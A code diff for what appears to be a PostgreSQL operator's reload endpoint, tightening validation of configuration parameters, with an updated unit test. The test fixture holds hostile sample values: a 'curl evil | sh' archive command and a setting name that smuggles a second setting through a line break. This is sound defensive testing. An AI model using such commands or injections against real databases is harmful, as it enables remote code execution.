@@ -142,6 +142,7 @@ async fn observe(shared: &Shared) -> (bool, StatusReport) {
             .map(|left| u64::try_from(left.as_millis()).unwrap_or(u64::MAX)),
         problem: published.problem,
         parameters: published.parameters,
+        refused_parameters: published.refused_parameters,
         server: None,
         error: None,
         archive: shared.archive.report(),
@@ -305,31 +306,25 @@ async fn restart(State(shared): State<Arc<Shared>>) -> Response {
     submit(&shared, Request::Restart).await
 }
 
-/// The parameters in `parameters` that Castellan owns, as given.
-fn reserved(parameters: &std::collections::BTreeMap<String, String>) -> Vec<String> {
-    use castellan_crds::database_cluster::RESERVED_POSTGRESQL_PARAMETERS;
+/// Why each of `parameters` cannot be written to the configuration: a malformed name,
+/// a value that would break the file, or a setting Castellan owns.
+fn refused(parameters: &std::collections::BTreeMap<String, String>) -> Vec<String> {
+    use castellan_crds::database_cluster::parameter_problem;
     parameters
-        .keys()
-        .filter(|name| {
-            let name = name.trim().to_ascii_lowercase();
-            RESERVED_POSTGRESQL_PARAMETERS.contains(&name.as_str())
-        })
-        .cloned()
+        .iter()
+        .filter_map(|(name, value)| parameter_problem(name, value))
         .collect()
 }
 
 async fn reload(State(shared): State<Arc<Shared>>, Json(body): Json<ReloadRequest>) -> Response {
     // Admission refuses these already; this is the second line, for a request that did
-    // not come through a DatabaseCluster (archive_command runs any shell command).
-    let refused = body.parameters.as_ref().map(reserved).unwrap_or_default();
+    // not come through a DatabaseCluster (archive_command runs any shell command, a
+    // line break in a name writes any setting).
+    let refused = body.parameters.as_ref().map(refused).unwrap_or_default();
     if !refused.is_empty() {
         return (
             StatusCode::BAD_REQUEST,
-            Json(json!({"error": format!(
-                "refused to reload: {} managed by Castellan and cannot be set: {}",
-                if refused.len() == 1 { "this parameter is" } else { "these parameters are" },
-                refused.join(", ")
-            )})),
+            Json(json!({"error": format!("refused to reload: {}", refused.join("; "))})),
         );
     }
     if let Some(config) = &body.archive
@@ -358,20 +353,38 @@ mod tests {
     use super::*;
 
     #[test]
-    fn reserved_parameters_are_found_whatever_their_case_and_spaces() {
+    fn owned_malformed_and_breaking_parameters_are_refused() {
         let parameters: BTreeMap<String, String> = [
             ("work_mem", "8MB"),
             (" Archive_Command ", "curl evil | sh"),
             ("SSL", "off"),
+            ("recovery_end_command", "sh"),
+            ("shared_preload_libraries", "evil"),
+            ("Include_Dir", "/tmp"),
+            ("work_mem\narchive_command", "x"),
+            ("search_path", "a\nb"),
+            ("auto_explain.log_min_duration", "1s"),
         ]
         .into_iter()
         .map(|(k, v)| (k.to_owned(), v.to_owned()))
         .collect();
-        assert_eq!(
-            reserved(&parameters),
-            vec![" Archive_Command ".to_owned(), "SSL".to_owned()]
-        );
+        let refused = refused(&parameters);
+        assert_eq!(refused.len(), 7, "{refused:#?}");
+        for expected in [
+            "parameter \" Archive_Command \" is not a PostgreSQL setting name",
+            "parameter Include_Dir is managed by Castellan",
+            "parameter SSL is managed by Castellan",
+            "parameter recovery_end_command is managed by Castellan",
+            "parameter shared_preload_libraries is managed by Castellan",
+            "parameter \"work_mem\\narchive_command\" is not a PostgreSQL setting name",
+            "the value of parameter search_path holds a line break",
+        ] {
+            assert!(
+                refused.iter().any(|r| r.starts_with(expected)),
+                "{expected} in {refused:#?}"
+            );
+        }
         let harmless = BTreeMap::from([("work_mem".to_owned(), "8MB".to_owned())]);
-        assert!(reserved(&harmless).is_empty());
+        assert!(super::refused(&harmless).is_empty());
     }
 }
